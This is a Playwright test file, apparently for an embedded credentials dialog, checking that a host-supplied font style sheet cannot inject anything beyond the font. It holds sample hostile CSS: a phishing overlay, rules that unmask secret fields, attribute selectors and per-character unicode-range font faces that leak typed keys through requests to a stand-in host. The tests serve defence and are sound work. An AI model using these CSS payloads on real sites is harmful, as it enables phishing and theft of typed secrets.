import { readFileSync } from 'node:fs';
import type { BrowserContext, Locator } from '@playwright/test';
import { openAcme } from './support/acme.ts';
import { CustomDialog } from './support/custom.ts';
import { dialogFrame, expect, test } from './support/test.ts';

const origin = 'https://fonts.example';
const inter = new URL('../node_modules/@fontsource-variable/inter/files/', import.meta.url);
const fontFile = readFileSync(new URL('inter-latin-wght-normal.woff2', inter));

const styled = (fontFamily: string, fontUrl: string) => ({ embedding: { styling: { fontFamily, fontUrl } } });
const face = (family: string, more = '', file = 'latin.woff2') =>
  `@font-face { font-family: ${family}; src: url(${file}) format("woff2"); ${more} }`;

/** Serves style sheets by path, and a font at every other path that ends like one. Returns the paths of all requests. */
async function serveFonts(context: BrowserContext, sheets: Record<string, string>): Promise<string[]> {
  const requested: string[] = [];
  await context.route(`${origin}/**`, (route) => {
    const path = new URL(route.request().url()).pathname;
    requested.push(path);
    const headers = { 'Access-Control-Allow-Origin': '*' };
    if (path.endsWith('.woff2')) return route.fulfill({ headers, contentType: 'font/woff2', body: fontFile });
    const body = sheets[path];
    return body === undefined ? route.abort() : route.fulfill({ headers, contentType: 'text/css', body });
  });
  return requested;
}

const fontOf = (element: Locator) => element.evaluate((target) => getComputedStyle(target).fontFamily);

/** Of the font: what it is called in the document does not matter. */
const isApplied = (body: Locator) =>
  body.evaluate(async () => (await document.fonts.ready).size > 0 && document.documentElement.style.cssText !== '');

test.beforeEach(({ stage }) => {
  // The policy that docs/security-headers.md recommends, with a font.
  const policy = stage.dialogHeaders['Content-Security-Policy'] ?? '';
  stage.dialogHeaders['Content-Security-Policy'] = `${policy}; font-src 'self' https:`;
});

test('a font is applied once it is loaded, and from https only', async ({ host, page }) => {
  const requested = await serveFonts(page.context(), { '/css/there.css': face('There', '', '../files/latin.woff2') });
  await page.context().route('http://fonts.example/**', () => expect(false).toBe(true));
  const warnings: string[] = [];
  page.on('console', (message) => message.type() === 'warning' && warnings.push(message.text()));
  const { root, key, submit } = await openAcme(host, {}, styled('there', `${origin}/css/there.css`));
  const body = dialogFrame(page).locator('body');
  await expect(body).toHaveCSS('font-family', /^"Host page font", system-ui/);
  await expect(submit).toHaveCSS('font-family', /^"Host page font", system-ui/);
  await expect(key).toHaveCSS('font-family', /^system-ui/);
  expect(requested).toEqual(['/css/there.css', '/files/latin.woff2']);

  for (const url of [`${origin}/gone.css`, `${origin}/css/there.css#other-family`]) {
    await host.reconfigure(styled('Gone', url));
    await expect.poll(() => warnings.filter((text) => text.includes(url)).length).toBe(1);
    await expect(body).toHaveCSS('font-family', /^"Host page font", system-ui/);
  }
  expect(warnings[0]).toMatch(/^Activepieces: embedding\.styling\.fontUrl is ignored: .+\.$/);
  await host.reconfigure(styled('Plain', 'http://fonts.example/there.css'));
  await expect(body).toHaveCSS('font-family', /^system-ui/);
  await expect(root).toBeVisible();
});

/** `#marker` would be fetched by any rule that applies. */
const hostileRules = {
  'a text over the dialog': 'body::before, .card::after { content: "Enter your bank PIN"; position: fixed; inset: 0 }',
  'secrets unmasked': '* { -webkit-text-security: none !important }',
  'an import': `@import "${origin}/more.css";`,
  'an import in a layer': `@import url(${origin}/more.css) layer(x);`,
  'requests by attribute': `input[value^="s"], [aria-label*="API"] { background: url(${origin}/marker) }`,
  'requests by state': `input:not(:placeholder-shown), input:focus { background: url(${origin}/marker) }`,
  'requests in conditions': `@media all { @supports (color: red) { * { list-style: url(${origin}/marker) } } }`,
  'tokens of the theme': `:root, html { --ap-surface: url(${origin}/marker); --ap-font-system: There !important }`,
  'an animation': `@keyframes x { to { background: url(${origin}/marker) } } * { animation: x 1ms forwards }`,
  'a counter style': `@counter-style disc { system: cyclic; symbols: "X" } * { content: url(${origin}/marker) }`,
};

for (const [name, rules] of Object.entries(hostileRules)) {
  test(`of the style sheet only the font is used: ${name}`, async ({ host, page }) => {
    const requested = await serveFonts(page.context(), {
      '/evil.css': `${rules}\n${face('There')}`,
      '/more.css': '* { color: red !important }',
    });
    const { key, root } = await openAcme(host, {}, styled('There', `${origin}/evil.css`));
    await expect(dialogFrame(page).locator('body')).toHaveCSS('font-family', /^"Host page font"/);
    await key.fill('sk-live-1');
    await key.evaluate((input) => input.setAttribute('value', 'sk-live-1'));
    await expect(root).toHaveCSS('background-color', 'rgb(255, 255, 255)');
    const before = await key.evaluate(() =>
      ['::before', '::after'].map((pseudo) => getComputedStyle(document.body, pseudo).content),
    );
    expect(before).toEqual(['none', 'none']);
    expect(await fontOf(key)).toMatch(/^system-ui/);
    expect(requested).toEqual(['/evil.css', '/latin.woff2']);
  });
}

test('a pasted key stays masked under a style sheet that would show it', async ({ host, page }) => {
  await serveFonts(page.context(), { '/evil.css': `* { -webkit-text-security: none !important } ${face('There')}` });
  const dialog = await CustomDialog.open(host, {
    key: { type: 'SECRET_TEXT', displayName: 'Private key', required: true },
  });
  await host.reconfigure(styled('There', `${origin}/evil.css`));
  await expect(dialogFrame(page).locator('body')).toHaveCSS('font-family', /^"Host page font"/);
  const key = dialog.field('Private key');
  await key.fill('-----BEGIN');
  expect(
    await key.evaluate(
      (input) => input.matches('[type=password]') || getComputedStyle(input).getPropertyValue('-webkit-text-security'),
    ),
  ).not.toBe('none');
});

test('no request depends on what is typed', async ({ host, page }) => {
  const letters = [...'abcdefghijklmnopqrstuvwxyz0123456789'];
  const perCharacter = letters.map((letter) =>
    face('There', `unicode-range: U+${letter.charCodeAt(0).toString(16)}`, `${letter}.woff2`),
  );
  const digits = face('There', 'unicode-range: U+30-39', 'digits.woff2');
  const requested = await serveFonts(page.context(), { '/evil.css': [...perCharacter, digits].join('\n') });
  const dialog = await CustomDialog.open(host, {
    host: { type: 'SHORT_TEXT', displayName: 'Host', required: false },
    key: { type: 'SECRET_TEXT', displayName: 'API key', required: true },
  });
  await host.reconfigure(styled('There', `${origin}/evil.css`));
  await expect.poll(() => isApplied(dialogFrame(page).locator('body'))).toBe(true);
  const loaded = [...requested];
  expect(loaded).toEqual(['/evil.css', '/a.woff2']);
  await dialog.root.getByRole('button', { name: 'Show API key' }).click();
  await dialog.field('API key').fill('sk-live-8437');
  // Shown outside of an input: in the suggestion.
  await dialog.field('Host').fill('https://xyz789.example.com/');
  await dialog.field('Host').press('Tab');
  await expect(dialog.root.getByText('xyz789.example.com')).toBeVisible();
  await dialog.root.evaluate(() => document.fonts.ready);
  expect(requested).toEqual(loaded);
});

test('a family in parts: those of the dialog’s language are loaded, and a name of a system font is no disguise', async ({
  host,
  page,
}) => {
  const requested = await serveFonts(page.context(), {
    '/parts.css': [
      face('Arial', 'unicode-range: U+0301, U+0400-045F', 'cyrillic.woff2'),
      face('Arial', 'unicode-range: U+0370-03FF', 'greek.woff2'),
      face('Arial', 'unicode-range: U+0000-00FF', 'latin.woff2'),
      face('Arial', 'font-style: italic', 'italic.woff2'),
      face('Arial', 'size-adjust: 900%; font-weight: 700', 'bold.woff2'),
      face('Other', '', 'other.woff2'),
      '@font-face { font-family: Arial; src: url(http://fonts.example/plain.woff2) }',
    ].join('\n'),
  });
  const { key } = await openAcme(
    host,
    {},
    { embedding: { locale: 'ru', styling: { fontFamily: 'Arial', fontUrl: `${origin}/parts.css` } } },
  );
  const body = dialogFrame(page).locator('body');
  await expect(body).toHaveCSS('font-family', /^"Host page font"/);
  expect(requested.sort()).toEqual(['/bold.woff2', '/cyrillic.woff2', '/latin.woff2', '/parts.css']);
  const families = await key.evaluate(() => [...document.fonts].map(({ family }) => family.replaceAll('"', '')));
  expect(families).toEqual(['Host page font', 'Host page font', 'Host page font']);
});
